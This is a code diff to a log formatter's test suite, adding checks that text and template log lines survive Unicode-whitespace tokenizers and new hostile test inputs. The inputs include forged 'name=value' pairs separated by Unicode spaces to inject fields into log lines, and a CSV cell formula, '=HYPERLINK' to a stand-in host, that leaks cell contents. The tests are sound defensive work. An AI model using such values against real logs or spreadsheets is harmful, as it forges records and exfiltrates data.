@@ -263,8 +263,10 @@ def unescape(s, pairs):
 def pairs(tokens):
     return [[k, unescape(v, TEXT)] for k, v in (t.split("=", 1) for t in tokens)]
 
+# Text and RFC 3164 split at any whitespace (str.split(): Unicode's, as
+# Go's strings.Fields and Rust's split_whitespace), as a log tool would.
 def text(l):
-    return [l.split(" ")[0], pairs(l.split(" ")[1:])]
+    return [l.split()[0], pairs(l.split()[1:])]
 
 def template(l):
     return [unescape(t, TEXT) for t in l.split(" ")]
@@ -279,7 +281,7 @@ def rfc5424(l):
 
 def rfc3164(l):
     m = json.loads(l)
-    toks = m["msg"].lstrip(" ").split(" ")
+    toks = m["msg"].split()
     return {"host": m["host"], "tag": m["tag"], "msgid": toks[0], "pairs": pairs(toks[1:])}
 
 def csv_row(r):
@@ -393,8 +395,64 @@ fn write_file(dir: &Path, name: &str, spec: &FormatSpec, recs: &[Probe]) -> Path
     path
 }
 
+/// The text rule's unescape (`Escape::Text`): `\\`, `\n`, `\r`, `\t`
+/// and `\xNN` back to their byte.
+fn unescape_text(s: &str) -> Vec<u8> {
+    let b = s.as_bytes();
+    let (mut out, mut i) = (Vec::new(), 0);
+    while i < b.len() {
+        if b[i] != b'\\' {
+            out.push(b[i]);
+            i += 1;
+            continue;
+        }
+        match b[i + 1] {
+            b'x' => {
+                out.push(u8::from_str_radix(&s[i + 2..i + 4], 16).unwrap());
+                i += 4;
+            }
+            c => {
+                out.push(match c {
+                    b'n' => b'\n',
+                    b'r' => b'\r',
+                    b't' => b'\t',
+                    b'\\' => b'\\',
+                    _ => panic!("unknown escape in {s:?}"),
+                });
+                i += 2;
+            }
+        }
+    }
+    out
+}
+
+/// Reads the text log at `path` as a Rust program would, with
+/// `split_whitespace` (Unicode whitespace): each line must give exactly
+/// its record's time and `name=value` pairs.
+fn check_text_split_whitespace(path: &Path, recs: &[Probe]) {
+    let data = std::fs::read_to_string(path).unwrap();
+    let lines: Vec<&str> = data.lines().collect();
+    assert_eq!(lines.len(), recs.len(), "{data}");
+    for (r, l) in recs.iter().zip(lines) {
+        let mut toks = l.split_whitespace();
+        assert_eq!(toks.next(), Some(rfc3339_us(r.time_ns).as_str()), "{l}");
+        let got: Vec<(String, Vec<u8>)> = toks
+            .map(|t| {
+                let (k, v) = t.split_once('=').unwrap_or((t, ""));
+                (k.to_string(), unescape_text(v))
+            })
+            .collect();
+        let want: Vec<(String, Vec<u8>)> = text_values(r)
+            .into_iter()
+            .map(|(n, v)| (n.to_string(), v))
+            .collect();
+        assert_eq!(got, want, "{l}");
+    }
+}
+
 fn check_text(dir: &Path, recs: &[Probe]) {
     let path = write_file(dir, "probe.log", &spec(Format::Text), recs);
+    check_text_split_whitespace(&path, recs);
     let (lines, rows) = read_back("text", &path);
     assert_eq!(
         lines,
@@ -415,6 +473,11 @@ fn check_template(dir: &Path, recs: &[Probe]) {
     let mut s = spec(Format::Text);
     s.template = Some("{queryName} {verdict:name} {tag}".into());
     let path = write_file(dir, "probe.tpl.log", &s, recs);
+    // A whitespace tokenizer splits a line only at the template's spaces.
+    for l in std::fs::read_to_string(&path).unwrap().lines() {
+        let spaces: Vec<&str> = l.split(' ').filter(|t| !t.is_empty()).collect();
+        assert_eq!(l.split_whitespace().collect::<Vec<_>>(), spaces, "{l}");
+    }
     let (lines, rows) = read_back("template", &path);
     assert_eq!(
         lines,
@@ -668,6 +731,16 @@ fn nasty() -> Vec<Probe> {
             b"\t",
         ),
         ("é\u{a0}\u{1F600}中".as_bytes(), "é".as_bytes()),
+        // Unicode whitespace, which tokenizers split at: the trial's
+        // forged pairs, then every other such character.
+        (
+            "x\u{a0}ruleId=999\u{3000}ttl=1\u{2003}sourceIPv4Address=10.6.6.6".as_bytes(),
+            "\u{a0}".as_bytes(),
+        ),
+        (
+            "\u{1680}a\u{2000}\u{2001}\u{2002}\u{2004}\u{2005}\u{2006}b\u{2007}\u{2008}\u{2009}\u{200a}\u{202f}\u{205f}c\u{85}\u{2028}\u{2029}\u{3000}".as_bytes(),
+            "\u{202f}".as_bytes(),
+        ),
         // Formulas, as a spreadsheet would run them from a CSV cell.
         (
             &b"=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"[..],
@@ -737,7 +810,8 @@ fn hostile(max: usize) -> impl Strategy<Value = Vec<u8>> {
             "\n", "\r", "\r\n", "\x1b[2J", "\x01", "\x00", "\"", "]", "\\", "\\x0a", ",", " ",
             "=", "\u{7f}", "\u{85}", "\u{9f}", "\u{2028}", "\u{2029}", "\u{feff}", "é",
             "\u{202e}", "\u{2067}", "\u{200e}", "=", "+", "-", "@",
-            "\u{1F600}", "<134>1 ",
+            "\u{1F600}", "<134>1 ", "\u{a0}", "\u{3000}", "\u{2003}", "\u{1680}",
+            "\u{202f}", "\u{205f}", " ruleId=1",
         ])
         .prop_map(|s| s.as_bytes().to_vec()),
         1 => Just(vec![0xe2, 0x80]),
